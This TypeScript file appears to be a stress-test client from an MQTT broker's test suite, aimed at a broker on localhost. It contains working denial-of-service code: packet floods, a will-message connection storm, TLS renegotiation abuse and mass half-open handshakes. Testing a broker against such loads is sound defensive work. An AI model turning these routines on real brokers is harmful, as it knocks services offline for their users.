/** One client that does what it can to slow the others down, in a process of its own. */
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import mqttPacket, { type Packet } from 'mqtt-packet';
import { pressTopic } from '../../protocol/src/topics.ts';
import { answer } from './child.ts';

interface Target {
  port: number;
  tlsPort: number;
  name: string;
  password: string;
}

const attacks = [
  'PINGREQ',
  'PUBLISH',
  'SUBSCRIBE',
  'UNSUBSCRIBE of 3,200',
  'PUBACK',
  'will storm',
  'renegotiation',
  'half-open',
] as const;
type Attack = (typeof attacks)[number];

/** Bytes that are written at a time. */
const chunkBytes = 64 * 1024;
/** After it was thrown out, until it is back (ms). */
const comeBackMs = 20;
const halfOpenPerAddress = 500;

let running = false;
const sockets = new Set<Socket>();

function keep<S extends Socket>(socket: S): S {
  sockets.add(socket);
  socket.on('error', () => {}).once('close', () => sockets.delete(socket));
  return socket;
}

const from = (port: number, localAddress = '127.0.0.2') =>
  keep(connectTcp({ port, host: '127.0.0.1', localAddress }).setNoDelay());

function login({ name, password }: Target, will?: string): Buffer {
  return mqttPacket.generate({
    cmd: 'connect',
    protocolId: 'MQTT',
    clientId: name,
    username: name,
    password: Buffer.from(password),
    clean: true,
    keepalive: 60,
    ...(will === undefined
      ? {}
      : { will: { topic: will, payload: Buffer.from('bye'), qos: 1, retain: false } }),
  });
}

/** Logs in and writes the same packet as fast as it is taken; thrown out, it comes back. */
function flood(target: Target, packet: Packet): void {
  const bytes = mqttPacket.generate(packet);
  const chunk = Buffer.concat(Array(Math.max(1, Math.floor(chunkBytes / bytes.length))).fill(bytes));
  const begin = () => {
    if (!running) return;
    const socket = from(target.port);
    socket.write(login(target));
    const push = () => {
      while (running && !socket.destroyed && socket.write(chunk));
    };
    socket.once('data', push).on('drain', push).resume();
    socket.once('close', () => setTimeout(begin, comeBackMs));
  };
  begin();
}

/** Ten connections at a time, each with a will and without a farewell. */
function willStorm(target: Target): void {
  const begin = () => {
    if (!running) return;
    const socket = from(target.port);
    socket.write(login(target, pressTopic(target.name)));
    socket.once('data', () => socket.destroy());
    socket.once('close', () => setTimeout(begin, comeBackMs));
  };
  for (let i = 0; i < 10; i++) begin();
}

function renegotiate(target: Target): void {
  const begin = () => {
    if (!running) return;
    const tcp = from(target.tlsPort);
    const socket: TLSSocket = connectTls({ socket: tcp, rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
    socket.on('error', () => tcp.destroy());
    const again = () => {
      if (!running) return;
      socket.renegotiate({ rejectUnauthorized: false }, error => (error ? tcp.destroy() : again()));
    };
    socket.once('secureConnect', again);
    tcp.once('close', () => setTimeout(begin, comeBackMs));
  };
  begin();
}

/** So many connections that have begun a handshake and say no more; closed ones are opened again. */
function halfOpen(target: Target, count: number): void {
  const hello = Buffer.of(22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3);
  const begin = (i: number) => {
    if (!running) return;
    const socket = from(target.tlsPort, `127.0.${1 + Math.floor(i / halfOpenPerAddress)}.1`);
    socket.write(hello);
    socket.once('close', () => setTimeout(() => begin(i), 1_000));
  };
  for (let i = 0; i < count; i++) setTimeout(() => begin(i), i / 10);
}

function begin(attack: Attack, target: Target, count: number): void {
  const filters = Array.from({ length: 3_200 }, (_, i) => `x${i.toString(36)}`.slice(0, 3));
  const kinds: Record<Attack, () => void> = {
    PINGREQ: () => flood(target, { cmd: 'pingreq' }),
    PUBLISH: () =>
      flood(target, {
        ...{ cmd: 'publish', topic: pressTopic(target.name), payload: 'x', qos: 1 },
        ...{ messageId: 1, dup: false, retain: false },
      }),
    SUBSCRIBE: () =>
      flood(target, { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'x', qos: 1 }] }),
    'UNSUBSCRIBE of 3,200': () =>
      flood(target, { cmd: 'unsubscribe', messageId: 1, unsubscriptions: filters }),
    PUBACK: () => flood(target, { cmd: 'puback', messageId: 1 }),
    'will storm': () => willStorm(target),
    renegotiation: () => renegotiate(target),
    'half-open': () => halfOpen(target, count),
  };
  running = true;
  kinds[attack]();
}

answer({
  begin: ({ attack, target, count }: { attack: Attack; target: Target; count: number }) =>
    begin(attack, target, count),
  end: () => {
    running = false;
    for (const socket of [...sockets]) socket.destroy();
  },
});
